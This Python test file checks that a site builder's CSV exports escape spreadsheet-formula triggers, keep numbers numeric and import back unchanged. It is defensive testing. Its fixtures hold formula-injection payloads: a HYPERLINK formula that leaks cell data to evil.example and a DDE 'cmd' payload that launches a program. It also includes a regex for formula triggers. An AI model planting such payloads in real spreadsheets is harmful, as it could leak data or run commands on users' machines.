"""CSV files people open in spreadsheets (the site's `projects.csv` mirrors, `export --format
csv`) never hold a text cell a spreadsheet would run as a formula, keep numbers numeric, and
import back to the original text."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from conftest import ArchiveFactory, Cli
from frictionless import validate
from hypothesis import given
from hypothesis import strategies as st

from site_builder import archive
from site_builder.csvcells import neutralise, restore
from site_builder.dribdat import projects_csv
from site_builder.model import Activity, Site

RISKY = re.compile("[\t\r]|\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
"""What a spreadsheet may read as the start of a formula (written out here independently)."""
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")

PROJECT = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "summary": "+1 for open data",
    "team": "@ada, grace",
    "source_url": "-2+3+cmd|' /C calc'!A0",
    "webpage_url": "\thttps://tab.example/",
    "contact_url": "'=already quoted",
    "hashtag": "  =SUM(A1:A9)",
    "ident": "\uff1dfullwidth",
}
"""Text of the project spring-hack/river-levels: every trigger, one per field."""
EVENT = {"name": "@Spring Hack", "summary": "-minus first", "location": "=Bern"}


def risky(site: Site) -> None:
    project = site.projects[("spring-hack", "river-levels")]
    for field, value in PROJECT.items():
        setattr(project, field, value)
    project.progress = -1
    event = site.events["spring-hack"]
    for field, value in EVENT.items():
        setattr(event, field, value)
    event.location_lat, event.location_lon = -33.86, -151.2
    site.activities["20240323T110000-0002"] = Activity(
        id="20240323T110000-0002",
        event="spring-hack",
        project="river-levels",
        date=datetime(2024, 3, 23, 11, 0, tzinfo=UTC),
        action="post",
        content="-1",
        user="ada",
    )


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def assert_no_formula(path: Path) -> None:
    for number, row in enumerate(rows(path), start=2):
        for column, cell in row.items():
            assert NUMBER.fullmatch(cell) or not RISKY.match(cell), (path.name, number, column)


def built(cli: Cli, content: Path, out: Path) -> Path:
    result = cli("build", "--content", content, "--out", out)
    assert result.exit_code == 0, result.output
    return out / "api" / "event" / "spring-hack" / "projects.csv"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+41 31 000", "'+41 31 000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),
        ("\u3000=1", "'\u3000=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        ("'=1+1", "''=1+1"),
        ("'-", "''-"),
        ("'quoted", "'quoted"),
        ("a=b", "a=b"),
        ("River levels", "River levels"),
        ("", ""),
    ],
)
def test_the_rule(text: str, written: str) -> None:
    assert neutralise(text) == written
    assert restore(written) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r \u3000\uff1da1")) | st.text())
def test_restore_gives_back_any_text_and_no_formula_survives(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not RISKY.match(written)


def test_site_projects_csv_holds_no_formula_and_keeps_numbers(
    cli: Cli, tmp_archive: ArchiveFactory, tmp_path: Path
) -> None:
    content = tmp_archive(edit=risky)
    mirror = built(cli, content, tmp_path / "public")
    assert_no_formula(mirror)
    (row,) = (r for r in rows(mirror) if r["slug"] == "river-levels")
    for field, value in PROJECT.items():
        assert row[field] == ("'" if RISKY.match(value.lstrip("'")) else "") + value, field
    assert row["event_name"] == "'@Spring Hack"
    assert (row["progress"], row["score"], row["team_count"]) == ("-1", "0", "2")
    assert row["id"].isdigit()
    # The archive itself, the source of truth, keeps the text exactly as written.
    (kept,) = (r for r in rows(content / "data" / "projects.csv") if r["slug"] == "river-levels")
    assert kept["name"] == PROJECT["name"] and kept["team"] == PROJECT["team"]


def test_projects_csv_of_a_payload_neutralises_text_only() -> None:
    text = projects_csv(
        [{"id": 7, "name": "\rcr first", "progress": -5, "lat": -1.5, "tags": ["=x"], "no": None}]
    )
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row == {
        "id": "7", "name": "'\rcr first", "progress": "-5", "lat": "-1.5", "tags": '["=x"]',
        "no": "",
    }  # fmt: skip


def test_site_projects_csv_imports_back_to_the_original(
    cli: Cli, tmp_archive: ArchiveFactory, tmp_path: Path
) -> None:
    content = tmp_archive(edit=risky)
    mirror = built(cli, content, tmp_path / "public")
    before = (content / "data" / "projects.csv").read_bytes()
    again = cli("import", "--timezone", "UTC", "--content", content, mirror)
    assert again.exit_code == 0, again.output
    assert (content / "data" / "projects.csv").read_bytes() == before

    def forget(site: Site) -> None:
        risky(site)
        site.activities.clear()
        del site.projects[("spring-hack", "river-levels")]

    fresh = tmp_archive("fresh", edit=forget)
    result = cli("import", "--timezone", "UTC", "--content", fresh, mirror)
    assert result.exit_code == 0, result.output
    project = archive.load(fresh).projects[("spring-hack", "river-levels")]
    assert {field: getattr(project, field) for field in PROJECT} == PROJECT
    assert project.progress == -1


def test_csv_export_holds_no_formula_keeps_numbers_and_stays_valid(
    cli: Cli, tmp_archive: ArchiveFactory, tmp_path: Path
) -> None:
    content = tmp_archive(edit=risky)
    out = tmp_path / "csv"
    result = cli("export", "--content", content, "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    data = out / "data"
    for table in ("events", "categories", "projects", "activities", "people"):
        assert_no_formula(data / f"{table}.csv")
    project = next(r for r in rows(data / "projects.csv") if r["slug"] == "river-levels")
    assert (project["name"], project["team"], project["progress"]) == (
        "'" + PROJECT["name"],
        "'@ada, grace",
        "-1",
    )
    event = next(r for r in rows(data / "events.csv") if r["slug"] == "spring-hack")
    assert (event["location"], event["location_lat"], event["location_lon"]) == (
        "'=Bern",
        "-33.86",
        "-151.2",
    )
    activity = next(r for r in rows(data / "activities.csv") if r["id"].endswith("-0002"))
    assert activity["content"] == "'-1"  # text that looks like a number is still text
    report = validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["type", "message"])[:3]


def test_csv_export_imports_back_to_the_original(
    cli: Cli, tmp_archive: ArchiveFactory, tmp_path: Path
) -> None:
    content = tmp_archive(edit=risky)
    out = tmp_path / "csv"
    assert cli("export", "--content", content, "--format", "csv", "--out", out).exit_code == 0
    fresh = tmp_path / "fresh"
    result = cli("import", "--timezone", "UTC", "--content", fresh, out / "data" / "events.csv")
    assert result.exit_code == 0, result.output
    event = archive.load(fresh).events["spring-hack"]
    assert {field: getattr(event, field) for field in EVENT} == EVENT
    assert (event.location_lat, event.location_lon) == (-33.86, -151.2)
